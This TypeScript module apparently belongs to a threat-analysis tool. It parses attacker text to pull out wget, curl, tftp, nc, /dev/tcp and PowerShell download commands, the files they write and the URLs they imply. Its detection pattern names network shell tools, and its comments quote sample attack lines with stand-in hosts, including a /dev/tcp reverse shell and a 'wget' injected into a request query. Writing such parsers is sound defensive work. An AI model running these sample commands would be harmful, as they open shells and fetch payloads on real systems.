// Download commands in attacker text: the shell command segment around each wget, curl, tftp,
// ftpget, nc, /dev/tcp, PowerShell or certutil download, the file names they fetch or write,
// and the URL a `tftp -g -r FILE HOST`, `ftpget HOST ... FILE` or scheme-less `wget HOST/PATH`
// means.

import { Budget } from './budget.js';
import { hostKind, hostOf } from './hosts.js';

/** Longest download command kept; a longer segment is cut to this. */
export const MAX_DOWNLOAD_CHARS = 512;
/** How far back from the download verb a segment may start. */
const MAX_LOOKBACK_CHARS = 256;
/** Download verbs looked at in one text: bounds the work on a text that repeats `wget`. */
export const MAX_VERBS_PER_TEXT = 128;
/** Longest file name kept. */
const MAX_FILE_CHARS = 128;

const DOWNLOAD_VERB = new RegExp(String.raw`(?<![A-Za-z0-9_.-])(?:wget|curl|tftp|ftpget|nc|` +
  String.raw`ncat|certutil(?:\.exe)?|iwr|invoke-webrequest|start-bitstransfer|` +
  String.raw`bitsadmin(?:\.exe)?)(?=[\s+])|/dev/(?:tcp|udp)/|` +
  String.raw`\.Download(?:String|File|Data)\s{0,8}\(`,
  'gi');

/** One command of a shell list, cut at `;`, `&&`, `||`, `|`, `&`, backquote or a line end. */
export function downloadCommands(text: string, budget = new Budget(Infinity)): string[] {
  const found: string[] = [];
  let verbs = 0;
  for (const match of text.matchAll(DOWNLOAD_VERB)) {
    if (++verbs > MAX_VERBS_PER_TEXT || !budget.take()) break;
    const nested = !match[0].startsWith('.');
    const segment = segmentAround(text, match.index, match.index + match[0].length, nested);
    if (/^certutil/i.test(match[0]) && !/urlcache/i.test(segment)) continue;
    if (/^(?:wget|curl)$/i.test(match[0]) && !namesTarget(segment)) continue;
    if (segment !== '') found.push(segment);
  }
  return found;
}

/** Whether a command separator is at `i`. `>&`, `&>` and `2>&1` are redirections, not `&`. */
function separatorAt(text: string, i: number): boolean {
  const c = text.charCodeAt(i);
  if (c < 0x20 || c === 0x7f) return true;
  const ch = text[i];
  if (ch === ';' || ch === '|' || ch === '`') return true;
  if (ch !== '&') return false;
  const before = text[i - 1] ?? '';
  const after = text[i + 1] ?? '';
  if (before === '&' || after === '&') return true;
  return before !== '>' && (after === '' || after === ' ' || after === '\t');
}

/** Characters that open a command inside a larger text: a quoted string (`sh -c "wget ..."`),
 * a subshell or command substitution (`$(wget ...)`, `(curl ...||wget ...)`). */
const OPENERS = new Map([['"', '"'], ["'", "'"], ['(', ')'], ['{', '}']]);

/** The command around a verb; `nested` when quotes and parentheses may open it (sh, not
 * PowerShell, whose `(New-Object ...).DownloadString(...)` is one command). */
function segmentAround(text: string, verbStart: number, verbEnd: number, nested: boolean): string {
  let start = verbStart;
  const floor = Math.max(0, verbStart - MAX_LOOKBACK_CHARS);
  // `cmd=wget ...`: a query or form value (or an assignment) that is a command starts after `=`.
  const opens = (i: number): boolean => text[i] === '=' || (nested && OPENERS.has(text[i] ?? ''));
  while (start > floor && !separatorAt(text, start - 1) && !opens(start - 1)) start--;
  if (CRON_SCHEDULE.test(text.slice(start, verbStart))) start = verbStart;
  const closer = nested ? OPENERS.get(text[start - 1] ?? '') : undefined;
  let end = verbEnd;
  let depth = 0;
  const ceiling = Math.min(text.length, start + MAX_DOWNLOAD_CHARS);
  for (; end < ceiling && !separatorAt(text, end); end++) {
    const ch = text[end];
    if (ch === closer && depth === 0) break;
    if (closer === ')' && ch === '(') depth++;
    else if (closer === ')' && ch === ')') depth--;
  }
  const segment = unwrap(withoutHttpVersion(text.slice(start, end).trim()));
  const bare = withoutEscapedQuoteTail(withoutStrayQuotes(withoutShellWrapper(segment)));
  return bare.slice(0, MAX_DOWNLOAD_CHARS);
}

/** `sh -c \"wget http://x/d.sh\"` nested in `bash -c "..."`: the segment ends at the inner
 * quote, leaving the backslash that escaped it (or a whole `\"`); neither is the command's. */
function withoutEscapedQuoteTail(segment: string): string {
  return segment.replace(/(?:\\+["']?)+$/, '').trimEnd();
}

/** A crontab line's schedule (and user) before the command: `10 * * * * root curl ...`.
 * `\S*?` takes what a decoded layer left of the line break before it (`\n` read as `n`). */
const CRON_SCHEDULE = new RegExp(String.raw`^\S*?(?:(?:[0-9*][0-9*/,-]*\s+){5}|` +
  String.raw`@(?:reboot|yearly|annually|monthly|weekly|daily|hourly|midnight)\s+)` +
  String.raw`(?:[a-z_][a-z0-9_.-]*\s+)?$`, 'i');

/** `/bin/bash -c "`, `sh -c '`, `cmd /c `: the shell that runs the command is not part of it
 * (a PowerShell cradle's segment is not opened by the quote, so it starts there). */
const SHELL_WRAPPER =
  /^(?:(?:\/usr)?\/bin\/)?(?:(?:ba|da|z|k)?sh\s+-c|cmd(?:\.exe)?\s+\/c)\s+["']?/i;

function withoutShellWrapper(segment: string): string {
  const rest = segment.replace(SHELL_WRAPPER, '');
  return rest === '' ? segment : rest;
}

/** A quote left unmatched at either end belongs to the list around the command: the closing
 * `"` of `bash -c "...; bash -i >& /dev/tcp/h/p 0>&1"`. */
function withoutStrayQuotes(segment: string): string {
  let out = segment;
  for (const quote of ['"', "'"]) {
    if (out.split(quote).length % 2 === 1) continue;
    if (out.endsWith(quote)) out = out.slice(0, -1).trimEnd();
    else if (out.startsWith(quote)) out = out.slice(1).trimStart();
  }
  return out;
}

/** A command at the end of a request line's query (`GET /?c=wget+http://x/a HTTP/1.1`) runs
 * to the line's end; the protocol version after it is not part of it. */
const HTTP_VERSION_TAIL = /\s+HTTP\/[0-9](?:\.[0-9])?$/i;

function withoutHttpVersion(segment: string): string {
  return segment.replace(HTTP_VERSION_TAIL, '');
}

/** `$(wget ...`, `(curl ...` and `wget ...)` lose the parenthesis their list put there. */
function unwrap(segment: string): string {
  let out = segment.replace(/^(?:\$\(|\(|\{)\s*/, '');
  const opens = (out.match(/\(/g) ?? []).length;
  const closes = (out.match(/\)/g) ?? []).length;
  if (closes > opens) out = out.replace(/\s*\)+$/, '');
  return out.trim();
}

/** `http:/\/x`, `w\get`: sh reads a backslash before a letter, `.`, `/`, `:` or `-` as nothing
 * (the decoder's shell layer drops it the same way; `\x41` is an escape it decodes). */
const NEEDLESS_ESCAPE = /\\(?!x[0-9a-fA-F])([A-Za-z./:-])/g;

/** Form and percent encoding undone, for comparing a raw command with its decoded layer (and
 * one stored before the request line's version was cut off with one stored after). */
export function commandKey(command: string): string {
  const bare = withoutHttpVersion(command.trim());
  const spaced = /\s/.test(bare) ? bare : bare.replace(/\+/g, ' ');
  return spaced.replace(/%([0-9a-fA-F]{2})/g, (_m, hex: string) =>
    String.fromCharCode(parseInt(hex, 16))).replace(NEEDLESS_ESCAPE, '$1')
    .replace(/\s+/g, ' ').trim();
}

/** How much of a command is still form or percent encoding: of two writings of one command,
 * the one with less reads better. */
export function encodedness(command: string): number {
  return (command.match(/%[0-9a-fA-F]{2}|\+|\\/g) ?? []).length;
}

/** A URL (`http://...`), a scheme-less `HOST/PATH`, an IP address (BusyBox `wget -g IP -r F`)
 * or a variable after wget or curl: what makes it fetch. `wget --version`, `curl --help` and
 * `wget -i urls.txt` fetch nothing named. */
function namesTarget(command: string): boolean {
  const list = words(command);
  const verb = list.findIndex((w) => /^(?:wget|curl)$/i.test(w));
  return list.slice(verb + 1).some((word) => word.includes('://') || word.includes('$')
    || schemelessUrl(`wget ${word}`) !== null || isIpHost(word));
}

function isIpHost(word: string): boolean {
  const host = hostOf(word);
  return host !== null && hostKind(host)?.startsWith('ip') === true;
}

function words(command: string): string[] {
  return commandKey(command).split(' ').map((w) => w.replace(/^["']+|["']+$/g, ''))
    .filter((w) => w !== '');
}

const OUTPUT_OPTIONS = new Set(['-o', '-O', '--output', '--output-document', '-OutFile', '-l',
  '-r']);
const GLUED_OUTPUT = /^(?:-O|-o|--output=|--output-document=|-OutFile:)(.+)$/;
const REDIRECT = /^(?:[0-9&]|-)?>>?$/;
const GLUED_REDIRECT = /^[0-9&]?>>?([^>&].*)$/;

/** Names of files the command writes or fetches: `-O`/`-o` targets, `tftp -r`/`-l` names,
 * redirections; as base names. */
export function outputFiles(command: string): string[] {
  const list = words(command);
  const files: string[] = [];
  list.forEach((word, i) => {
    const next = list[i + 1];
    if ((OUTPUT_OPTIONS.has(word) || REDIRECT.test(word)) && next !== undefined) {
      files.push(next);
    } else {
      const glued = GLUED_OUTPUT.exec(word)?.[1] ?? GLUED_REDIRECT.exec(word)?.[1];
      if (glued !== undefined) files.push(glued);
    }
  });
  return files.map(baseName).filter((f): f is string => f !== null);
}

/** The last path segment when it looks like a file name; null for `-`, `/dev/null`, `$var`. */
export function baseName(path: string): string | null {
  if (path.includes('://') || path.startsWith('-') || path === '/dev/null') return null;
  const name = path.slice(path.lastIndexOf('/') + 1);
  if (name === '.' || name === '..' || name.length > MAX_FILE_CHARS) return null;
  return /^[A-Za-z0-9._+~@-]+$/.test(name) ? name : null;
}

/** Options of tftp and ftpget that take a value. */
const TFTP_VALUE_OPTIONS = new Set(['-r', '-l', '-b', '-m', '-c']);
const FTPGET_VALUE_OPTIONS = new Set(['-u', '-p', '-P']);

/** `tftp -g -r FILE HOST [PORT]` → `tftp://HOST[:PORT]/FILE`; `ftpget HOST LOCAL REMOTE` →
 * `ftp://HOST/REMOTE` (BusyBox usage texts); a scheme-less wget or curl target → `http://`.
 * Null when host or file is missing. */
export function impliedUrl(command: string): string | null {
  if (!/tftp|ftpget/i.test(command)) return schemelessUrl(command);
  const list = words(command);
  const verb = list.findIndex((w) => /^(?:tftp|ftpget)$/i.test(w));
  if (verb < 0) return null;
  const tftp = list[verb]?.toLowerCase() === 'tftp';
  const options = new Map<string, string>();
  const positional: string[] = [];
  const valued = tftp ? TFTP_VALUE_OPTIONS : FTPGET_VALUE_OPTIONS;
  for (let i = verb + 1; i < list.length; i++) {
    const word = list[i] ?? '';
    if (valued.has(word) && i + 1 < list.length) options.set(word, list[++i] ?? '');
    else if (!word.startsWith('-')) positional.push(word);
  }
  return tftp ? tftpUrl(options, positional) : ftpgetUrl(options, positional);
}

/** `wget 198.51.100.1/jaws`, `curl -s example.com/x.sh`: wget and curl read a host and path
 * without a scheme as http://host/path. Null when no such word follows the verb. */
function schemelessUrl(command: string): string | null {
  const list = words(command);
  const verb = list.findIndex((w) => /^(?:wget|curl)$/i.test(w));
  if (verb < 0) return null;
  for (const word of list.slice(verb + 1)) {
    const found = /^([^/:@\s]+)(:[0-9]{1,5})?(\/[^\s]*)$/.exec(word);
    if (found === null) continue;
    const url = joinUrl('http', found[1], found[2] ?? '', found[3]);
    if (url !== null) return url;
  }
  return null;
}

function tftpUrl(options: Map<string, string>, positional: string[]): string | null {
  // Windows: `tftp -i HOST GET FILE`; BusyBox: `-c get FILE` (kept in options as `-c`).
  const getIndex = positional.findIndex((w) => w.toLowerCase() === 'get');
  const getFile = getIndex >= 0 ? positional.splice(getIndex, 2)[1] : undefined;
  const file = options.get('-r') ?? getFile ?? options.get('-l');
  const host = positional[0];
  const port = /^[0-9]{1,5}$/.test(positional[1] ?? '') ? `:${positional[1]}` : '';
  return joinUrl('tftp', host, port, file);
}

function ftpgetUrl(options: Map<string, string>, positional: string[]): string | null {
  const [host, local, remote] = positional;
  const port = /^[0-9]{1,5}$/.test(options.get('-P') ?? '') ? `:${options.get('-P')}` : '';
  return joinUrl('ftp', host, port, remote ?? local);
}

function joinUrl(scheme: string, host: string | undefined, port: string,
  file: string | undefined): string | null {
  if (host === undefined || file === undefined || file === '' || /[\s$`]/.test(file)) return null;
  const name = hostOf(host);
  const kind = name === null ? null : hostKind(name);
  if (name === null || kind === null) return null;
  const shown = kind === 'ipv6' ? `[${name}]` : name;
  return `${scheme}://${shown}${port}/${file.replace(/^\/+/, '')}`;
}
